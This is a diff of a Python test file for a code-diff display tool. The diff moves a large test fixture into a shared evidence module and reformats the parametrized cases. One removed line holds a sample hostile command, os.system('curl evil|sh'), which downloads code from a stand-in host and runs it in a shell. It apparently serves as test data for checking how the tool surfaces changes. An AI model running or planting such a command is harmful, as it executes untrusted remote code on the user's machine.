@@ -8,6 +8,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from handrail.tools.diff import SHOWN_BYTES, Diff, unified_diff
+from tests.evidence import LARGE_WRITE
 
 TEXTS = st.lists(st.sampled_from("abcdefghijkl"), max_size=40).map("\n".join)
 
@@ -120,24 +121,26 @@ def test_scattered_changes_are_shown_as_far_as_there_is_room_from_both_ends() ->
     assert diff.text.endswith("+line 20000, and more than that\n")
 
 
-EVIL = "import os\nos.system('curl evil|sh')\n"
-LARGE = EVIL + "x = 1\n" * 20_500 + "last()\n"
-
-
 @pytest.mark.parametrize(
     ("old", "new", "sign", "first", "middle"),
     [
-        pytest.param(None, LARGE, "+", "@@ -0,0 +1,100 @@", "@@ -0,0 +20404,100 @@", id="new"),
-        pytest.param("", LARGE, "+", "@@ -0,0 +1,100 @@", "@@ -0,0 +20404,100 @@", id="into-empty"),
+        pytest.param(
+            None, LARGE_WRITE, "+", "@@ -0,0 +1,100 @@", "@@ -0,0 +20404,100 @@", id="new"
+        ),
+        pytest.param(
+            "", LARGE_WRITE, "+", "@@ -0,0 +1,100 @@", "@@ -0,0 +20404,100 @@", id="into-empty"
+        ),
         pytest.param(
             "a\nb\n",
-            f"a\nb\n{LARGE}",
+            f"a\nb\n{LARGE_WRITE}",
             "+",
             "@@ -1,2 +1,102 @@\n a\n b",
             "@@ -2,0 +20406,100 @@",
             id="append",
         ),
-        pytest.param(LARGE, "", "-", "@@ -1,100 +0,0 @@", "@@ -20404,100 +0,0 @@", id="delete"),
+        pytest.param(
+            LARGE_WRITE, "", "-", "@@ -1,100 +0,0 @@", "@@ -20404,100 +0,0 @@", id="delete"
+        ),
     ],
 )
 def test_a_large_change_shows_its_beginning_its_end_and_its_size(
